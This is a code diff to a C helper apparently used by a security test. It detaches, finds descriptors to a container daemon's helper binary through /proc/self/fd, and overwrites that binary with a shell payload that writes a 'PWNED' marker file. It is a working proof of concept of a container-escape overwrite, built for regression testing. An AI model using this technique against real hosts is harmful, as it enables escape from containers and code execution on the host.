@@ -5,8 +5,9 @@
  * user exits), to reopen each one for writing and write a payload over its first bytes. It
  * prints one line per descriptor it got and per write that landed; exit 0 either way.
  *
- * Also `overwrite_helper noop` (exit 0): the command the test execs to make the daemon run its
- * helper. Built static by the test (gcc -static), so it needs nothing from the image. */
+ * Run as `overwrite_helper start SECONDS` (it detaches and logs to /tmp/attack.log),
+ * `overwrite_helper report` (waits for the log's end and prints it) and `overwrite_helper noop`
+ * (exit 0: the command the test execs to make the daemon run its helper). Built static by the test (gcc -static), so it needs nothing from the image. */
 #define _GNU_SOURCE
 #include <dirent.h>
 #include <errno.h>
@@ -21,6 +22,7 @@
 
 static int fds[MAX_FDS];
 static int nfds;
+static int reported[MAX_FDS];
 
 static int known(int fd) {
     char a[64], b[64];
@@ -35,10 +37,46 @@ static int known(int fd) {
     return 0;
 }
 
+static int report(void) {
+    /* Wait for the attack's log to end, then print it. */
+    for (int tries = 0; tries < 600; tries++) {
+        char buf[65536];
+        int fd = open("/tmp/attack.log", O_RDONLY);
+        ssize_t n = fd < 0 ? 0 : read(fd, buf, sizeof buf - 1);
+        if (fd >= 0)
+            close(fd);
+        if (n > 0) {
+            buf[n] = 0;
+            if (strstr(buf, "done:")) {
+                fputs(buf, stdout);
+                return 0;
+            }
+        }
+        usleep(100000);
+    }
+    puts("no report");
+    return 1;
+}
+
 int main(int argc, char **argv) {
     if (argc > 1 && strcmp(argv[1], "noop") == 0)
         return 0;
-    int seconds = argc > 1 ? atoi(argv[1]) : 10;
+    if (argc > 1 && strcmp(argv[1], "report") == 0)
+        return report();
+    int seconds = argc > 2 ? atoi(argv[2]) : 10;
+    /* `start SECONDS`: detach, as a real attacker's `nohup … &` would, so the exec that
+     * started it ends and its helper is no longer being executed. */
+    unlink("/tmp/attack.log");
+    if (fork() != 0)
+        return 0;
+    setsid();
+    if (!freopen("/tmp/attack.log", "w", stdout))
+        return 1;
+    int null = open("/dev/null", O_RDWR);
+    if (null >= 0) {
+        dup2(null, 0);
+        dup2(null, 2);
+    }
     char self[4096];
     ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);
     if (n < 0)
@@ -77,10 +115,22 @@ int main(int argc, char **argv) {
             char p[64];
             snprintf(p, sizeof p, "/proc/self/fd/%d", fds[i]);
             int w = open(p, O_WRONLY | O_CLOEXEC);
-            if (w < 0)
+            if (w < 0) {
+                if (errno != ETXTBSY && !reported[i]) {
+                    reported[i] = 1;
+                    printf("cannot open %s for writing: %s\n", p, strerror(errno));
+                    fflush(stdout);
+                }
                 continue;
+            }
             static const char payload[] = "#!/bin/sh\necho PWNED > /tmp/crab-pwned\n";
-            if (pwrite(w, payload, sizeof payload - 1, 0) == (ssize_t)(sizeof payload - 1)) {
+            ssize_t put = pwrite(w, payload, sizeof payload - 1, 0);
+            if (put < 0 && !reported[i]) {
+                reported[i] = 1;
+                printf("cannot write %s: %s\n", p, strerror(errno));
+                fflush(stdout);
+            }
+            if (put == (ssize_t)(sizeof payload - 1)) {
                 printf("WROTE %s\n", p);
                 fflush(stdout);
                 wrote++;
